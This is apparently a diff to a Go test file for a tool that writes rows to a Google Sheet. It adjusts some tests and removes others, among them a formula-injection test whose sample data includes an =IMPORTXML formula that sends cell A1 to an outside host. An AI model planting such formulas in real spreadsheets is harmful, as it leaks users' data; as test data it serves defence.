@@ -18,15 +18,17 @@ const sheetTool = "write_rows_to_google_sheet"
 
 func TestRowsAreWrittenRaw(t *testing.T) {
 	w := newWorld(t)
-	want := [][]any{{"Name", "Hours"}, {"=1+1", 1.5}, {"", true}, {"", "[1]"}}
+	want := [][]any{{"Name", "Hours"}, {"=1+1", 1.5}, {"", true}, {"", "[1]"}, {"9007199254740993", 25000000.0}}
 	for range 2 { // the second time the tab exists, and the same call changes nothing
 		var out sheets.Written
 		w.run(t, sheetTool, sheetArgs, &out)
-		expect.Same(t, sheets.Written{SpreadsheetID: "ringi-demo-sheet", UpdatedRange: "'tab ''a'''!A1:B4", UpdatedRows: 3,
-			UpdatedCells: 8, URL: w.url + "/sheets/ringi-demo-sheet", RowsBelow: new(int)}, out)
+		expect.Same(t, sheets.Written{SpreadsheetID: "ringi-demo-sheet", UpdatedRange: "'tab ''a'''!A1:B5", UpdatedRows: 4,
+			UpdatedCells: 10, URL: w.url + "/sheets/ringi-demo-sheet", RowsBelow: new(int)}, out)
 		expect.Same(t, want, w.vendors.Rows("ringi-demo-sheet", "tab 'a'"))
 	}
 	expect.Is(t, len(w.vendors.Tabs()), 1, "tabs")
+	e := w.refuse(t, sheetTool, strings.Replace(sheetArgs, "ringi-demo-sheet", "another", 1))
+	expect.That(t, e.Outcome == explain.CallFailed && e.Problem == explain.ProblemNotFound, "%v", e)
 }
 
 // Rows are found where they stand just as they were to be written, and written by no look.
@@ -45,26 +47,6 @@ func TestWrittenRowsAreFound(t *testing.T) {
 	expect.That(t, !found, "found with another cell")
 }
 
-// No text may become a formula. With a formula, people who fill in a form could read other cells and send them away.
-func TestFormulasStayText(t *testing.T) {
-	w := newWorld(t)
-	texts := []string{`=IMPORTXML("https://example.com/?"&A1,"//a")`, `=HYPERLINK("https://example.com","x")`, "+1+1",
-		"-1+1", "@SUM(A1)", "\t=1", "'=1", "2026-03-31", "TRUE", "007"}
-	var rows []map[string]string
-	want := [][]any{{"=TITLE()"}}
-	for _, text := range texts {
-		rows = append(rows, map[string]string{"v": text})
-		want = append(want, []any{text})
-	}
-	b := expect.Value(json.Marshal(map[string]any{
-		"spreadsheet_id": "ringi-demo-sheet", "sheet": "=A1",
-		"columns": []any{map[string]string{"key": "v", "title": "=TITLE()"}}, "rows": rows,
-	}))(t)
-	var out sheets.Written
-	w.run(t, sheetTool, string(b), &out) // the stand-in refuses values that are not RAW
-	expect.Same(t, want, w.vendors.Rows("ringi-demo-sheet", "=A1"))
-}
-
 // table returns the arguments for a table with this many rows and columns.
 func table(t *testing.T, tab string, rows, columns int) string {
 	t.Helper()
@@ -81,29 +63,6 @@ func table(t *testing.T, tab string, rows, columns int) string {
 	return string(b)
 }
 
-func TestATabIsAsLargeAsItsTable(t *testing.T) {
-	for name, test := range map[string]struct{ height, width, rows, columns int }{
-		"a new tab, many rows":          {0, 0, 1500, 2},
-		"a new tab, many columns":       {0, 0, 2, 30},
-		"a tab that is too short":       {10, 26, 10, 2},
-		"a tab that is too narrow":      {1000, 2, 10, 3},
-		"a tab that is just large":      {11, 2, 10, 2},
-		"a tab that is larger than all": {5000, 100, 10, 2},
-	} {
-		t.Run(name, func(t *testing.T) {
-			w := newWorld(t)
-			if test.height > 0 {
-				expect.NoError(t, w.vendors.Add("tab", test.height, test.width))
-			}
-			var out sheets.Written
-			w.run(t, sheetTool, table(t, "tab", test.rows, test.columns), &out)
-			rows := w.vendors.Rows("ringi-demo-sheet", "tab")
-			expect.That(t, out.UpdatedRows == test.rows && len(rows) == test.rows+1 && len(rows[0]) == test.columns,
-				"%+v, %d rows", out, len(rows))
-		})
-	}
-}
-
 func TestASpreadsheetWithoutRoom(t *testing.T) {
 	for name, test := range map[string]struct {
 		others    int // number of rows of 1,000 cells in other tabs
@@ -112,10 +71,10 @@ func TestASpreadsheetWithoutRoom(t *testing.T) {
 		full      bool
 		wouldHave string
 	}{
-		"the last cells are free":       {9974, "new", 900, false, ""},
-		"no room for another tab":       {9975, "new", 900, true, "10001000"},
-		"no room to enlarge":            {9999, "small", 1001, true, "10001004"},
-		"room in the tab that is there": {9999, "small", 400, false, ""},
+		"the last cells are free": {9974, "new", 900, false, ""},
+		"no room for another tab": {9975, "new", 900, true, "10001000"},
+		"no room to enlarge":      {9999, "small", 1001, true, "10001004"},
+		"the tab is enlarged":     {900, "small", 1001, false, ""},
 	} {
 		t.Run(name, func(t *testing.T) {
 			w := newWorld(t)
@@ -166,20 +125,6 @@ func TestACellThatIsTooLong(t *testing.T) {
 	}
 }
 
-func TestASheetThatNobodyShared(t *testing.T) {
-	w := newWorld(t)
-	w.vendors.Fail(sheetTool, 403, true)
-	e := w.refuse(t, sheetTool, sheetArgs)
-	expect.That(t, e.Outcome == explain.CallFailed && e.Problem == explain.ProblemDenied, "%v", e)
-}
-
-func TestAnUnknownSpreadsheet(t *testing.T) {
-	w := newWorld(t)
-	e := w.refuse(t, sheetTool, strings.Replace(sheetArgs, "ringi-demo-sheet", "another", 1))
-	expect.That(t, e.Outcome == explain.CallFailed && e.Problem == explain.ProblemNotFound &&
-		w.vendors.Calls(sheetTool) == 0, "%v", e)
-}
-
 // Rows below the written table are kept and counted, so that people know of them. If they can't be counted, the write
 // still succeeds.
 func TestRowsThatStandBelowATableAreCounted(t *testing.T) {
@@ -191,11 +136,8 @@ func TestRowsThatStandBelowATableAreCounted(t *testing.T) {
 		reads  int
 		breaks bool
 	}{
-		"a new tab":                        {func(*testing.T, *world) {}, 2, new(0), false, 0, false},
-		"a shorter table before":           {wrote(2, 2), 3, new(0), false, 1, false},
-		"a longer table before":            {wrote(42, 2), 21, new(21), false, 1, false},
-		"a longer and wider one":           {wrote(42, 5), 21, new(21), false, 1, false},
-		"the table reaches the grid's end": {wrote(1500, 2), 1500, new(0), false, 0, false},
+		"a new tab":              {func(*testing.T, *world) {}, 2, new(0), false, 0, false},
+		"a longer and wider one": {wrote(42, 5), 21, new(21), false, 1, false},
 		"more than is read": {func(t *testing.T, w *world) {
 			expect.NoError(t, w.vendors.Add("tab", 60_000, 2))
 			wrote(20_000, 2)(t, w)
